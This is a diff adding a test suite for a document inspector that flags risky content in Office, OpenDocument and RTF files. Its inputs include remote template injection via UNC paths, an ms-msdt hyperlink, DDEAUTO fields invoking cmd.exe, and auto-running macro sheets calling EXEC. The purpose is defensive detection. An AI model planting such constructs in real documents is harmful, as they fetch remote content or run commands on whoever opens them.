@@ -1,0 +1,182 @@
+import { strToU8, type Zippable, zipSync } from 'fflate';
+import { describe, expect, it } from 'vitest';
+import {
+  hasKeyOf,
+  inspectSample,
+  modelsAsked,
+  processorMs,
+  sha256,
+  signsOf,
+} from '../testing/inspect-sample.ts';
+import { PROGRAM, WORDS } from '../testing/samples.ts';
+
+const BAIT = 'login.example.com';
+const LINK = `https://${BAIT}/x`;
+const FETCHES = 'a document that fetches a template or an object from elsewhere when opened';
+const COMMANDS = 'a document that has another program run something (DDE or an action)';
+const MACROS_UNREAD = 'what the macros in it do is not worked out here';
+
+function documentWith(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
+  const all = { '[Content_Types].xml': 'x', 'word/document.xml': `<w:p><w:t>${WORDS}</w:t></w:p>`, ...files };
+  const entries = Object.entries(all).map(([name, file]) => [
+    name,
+    typeof file === 'string' ? strToU8(file) : file,
+  ]);
+  return zipSync(Object.fromEntries(entries) as Zippable);
+}
+
+function relation(type: string, target: string): string {
+  return `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`;
+}
+
+describe('what an Office document holds beside harmless words', () => {
+  it.each<[string, Readonly<Record<string, string | Uint8Array>>]>([
+    ['words that stand as they are', { 'word/footnotes.xml': `<w:t><![CDATA[see ${LINK} now]]></w:t>` }],
+    ['relations in capital letters', { 'word/_rels/document.xml.RELS': relation('hyperlink', LINK) }],
+    ['words in capital letters', { 'word/footnotes.XML': `<w:t>see ${LINK}</w:t>` }],
+    [
+      'two bytes for each letter without a mark',
+      { 'word/footnotes.xml': Buffer.from(`<?xml version="1.0"?><w:t>see ${LINK}</w:t>`, 'utf16le') },
+    ],
+    [
+      'an address within another',
+      { 'word/_rels/document.xml.rels': relation('hyperlink', `mhtml:${LINK}!x`) },
+    ],
+    [
+      'a long address',
+      { 'word/_rels/document.xml.rels': relation('hyperlink', `${LINK}?${'a'.repeat(9000)}`) },
+    ],
+    [
+      'an address with the end of a tag',
+      { 'word/_rels/document.xml.rels': relation('hyperlink', `${LINK}?>`) },
+    ],
+    [
+      'words that a field takes from elsewhere',
+      { 'customXml/item1.xml': LINK, 'word/a.xml': '<w:dataBinding/>' },
+    ],
+    ['a drawing', { 'xl/drawings/vmlDrawing1.vml': `<v:shape href="${LINK}"/>` }],
+    [
+      'a cell under a prefix',
+      { 'xl/worksheets/sheet1.xml': `<x:is><x:t xml:space="preserve">${LINK}</x:t></x:is>` },
+    ],
+    ['a page by the name of a picture', { 'word/media/a.png': `<html><a href="${LINK}">x</a>` }],
+  ])('is found: %s', async (_, files) => {
+    const inspection = await inspectSample(documentWith(files), 'a.docx');
+    expect(hasKeyOf(inspection, 'domain', BAIT)).toBe(true);
+    expect(inspection.unsupported).toBeUndefined();
+  });
+
+  it('is found: a program by the name of a picture', async () => {
+    const inspection = await inspectSample(documentWith({ 'word/media/a.png': PROGRAM }), 'a.docx');
+    expect(hasKeyOf(inspection, 'sha256', sha256(PROGRAM))).toBe(true);
+  });
+
+  it.each([
+    ['oleObject', `mhtml:${LINK}!x-usc:${LINK}`, [FETCHES]],
+    ['attachedTemplate', 'file:///\\\\192.0.2.1\\share\\t.dotm', [FETCHES]],
+    ['attachedTemplate', 'file:///C:\\Users\\anna\\Templates\\Normal.dotm', []],
+    ['image', '\\\\192.0.2.1\\x.png', [FETCHES]],
+    ['image', 'https://www.example.com/x.png', []],
+    ['hyperlink', LINK, []],
+    ['hyperlink', 'ms-msdt:/id PCWDiagnostic', [COMMANDS]],
+  ])('is named for what it fetches, or is not: %s %s', async (type, target, signs) => {
+    const document = documentWith({ 'word/_rels/settings.xml.rels': relation(type, target) });
+    expect(signsOf(await inspectSample(document, 'a.docx'))).toEqual(signs);
+  });
+
+  it.each([
+    ['a field', { 'word/a.xml': '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>' }],
+    ['a simple field', { 'word/a.xml': '<w:fldSimple w:instr=" DDEAUTO c:\\x "/>' }],
+    ['an action', { 'ppt/slides/slide1.xml': '<a:hlinkClick action="ppaction://program"/>' }],
+    ['a link of a table', { 'xl/externalLinks/a.xml': '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>' }],
+  ])('is named for the command in %s', async (_, files) => {
+    expect(signsOf(await inspectSample(documentWith(files), 'a.docx'))).toEqual([COMMANDS]);
+  });
+
+  it('is no command where it is only spoken of', async () => {
+    const document = documentWith({ 'word/a.xml': '<w:t>DDEAUTO cmd.exe is how it was done</w:t>' });
+    expect(signsOf(await inspectSample(document, 'a.docx'))).toEqual([]);
+  });
+
+  it('are macros, of which is said that nobody worked them out', async () => {
+    const macros = await inspectSample(documentWith({ 'word/vbaProject.bin': 'x' }), 'a.docm');
+    expect(macros.unsupported).toBe(MACROS_UNREAD);
+    const sheet = { 'xl/macrosheets/sheet1.xml': '<c><f>EXEC("calc")</f></c>' };
+    const old = await inspectSample(documentWith(sheet), 'a.xlsm');
+    expect(signsOf(old)).toEqual(['a document that holds macros']);
+    expect(old.unsupported).toBe(MACROS_UNREAD);
+    const names = { 'xl/workbook.xml': '<definedName name="_xlnm.Auto_Open">M!A1</definedName>' };
+    expect(signsOf(await inspectSample(documentWith({ ...sheet, ...names }), 'a.xlsm'))).toEqual([
+      'a document whose macros run when it is opened',
+    ]);
+  });
+
+  it('are no macros: the empty list of them in an OpenDocument text', async () => {
+    const text = zipSync({
+      mimetype: strToU8('application/vnd.oasis.opendocument.text'),
+      'META-INF/manifest.xml': strToU8('x'),
+      'content.xml': strToU8(`<text:p>${WORDS}</text:p>`),
+      'Basic/script-lc.xml': strToU8('<library:libraries/>'),
+      'Basic/Standard/script-lb.xml': strToU8('<library:library/>'),
+    });
+    const inspection = await inspectSample(text, 'a.odt');
+    expect(signsOf(inspection)).toEqual([]);
+    expect(inspection.unsupported).toBeUndefined();
+  });
+
+  it('is judged to its end, however many pages a presentation has', async () => {
+    const pages = Array.from({ length: 90 }, (_, at) => [`ppt/slides/slide${at}.xml`, `<a:t>${WORDS}</a:t>`]);
+    const inspection = await inspectSample(documentWith(Object.fromEntries(pages)), 'a.pptx');
+    expect(modelsAsked(inspection)).toEqual(['text_model']);
+    expect(inspection.unsupported).toBeUndefined();
+  });
+
+  it('is encrypted, as its list of files says', async () => {
+    const text = zipSync({
+      mimetype: strToU8('x'),
+      'META-INF/manifest.xml': strToU8('<manifest:encryption-data/>'),
+      'content.xml': strToU8('\x01\x02'),
+      'meta.rdf': strToU8(WORDS),
+    });
+    expect((await inspectSample(text, 'a.odt')).unsupported).toBe('files in it are locked with a password');
+  });
+
+  it('is a document in one piece of XML, of which is said that more may be in it', async () => {
+    const text = `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:t>${WORDS}</w:t>`;
+    expect((await inspectSample(text, 'a.xml')).unsupported).toContain('a document in XML');
+    const plain = `<?xml version="1.0"?><note>${WORDS}</note>`;
+    expect((await inspectSample(plain, 'a.xml')).unsupported).toBeUndefined();
+  });
+
+  it('is a password, which keeps everybody out', async () => {
+    const start = Buffer.from('d0cf11e0a1b11ae1', 'hex');
+    const locked = Buffer.concat([start, Buffer.alloc(99), Buffer.from('EncryptedPackage', 'utf16le')]);
+    expect((await inspectSample(locked, 'a.docx')).unsupported).toBe(
+      'it is a document locked with a password',
+    );
+  });
+
+  it('is read in no time: relations that never end', async () => {
+    const document = documentWith({ 'word/_rels/a.rels': `<Relationship Target='${'"a'.repeat(300_000)}` });
+    expect(await processorMs(() => inspectSample(document, 'a.docx'))).toBeLessThan(1000);
+  });
+});
+
+describe('what rich text holds beside harmless words', () => {
+  it.each([
+    ['a template', '{\\*\\template https://login.example.com/x.dotm}', FETCHES],
+    [
+      'an escaped template',
+      `{\\*\\template ${[...LINK].map((c) => `\\u${c.charCodeAt(0) - 65_536}?`).join('')}}`,
+      FETCHES,
+    ],
+    ['a command', '{\\field{\\*\\fldinst DDEAUTO cmd.exe "/k calc"}}', COMMANDS],
+  ])('is named: %s', async (_, group, sign) => {
+    expect(signsOf(await inspectSample(`{\\rtf1 ${WORDS}${group}}`, 'a.rtf'))).toEqual([sign]);
+  });
+
+  it('is said to be unread: an embedded object', async () => {
+    const object = '{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000}}';
+    expect((await inspectSample(`{\\rtf1 ${WORDS}${object}}`, 'a.rtf')).unsupported).toContain('object');
+  });
+});
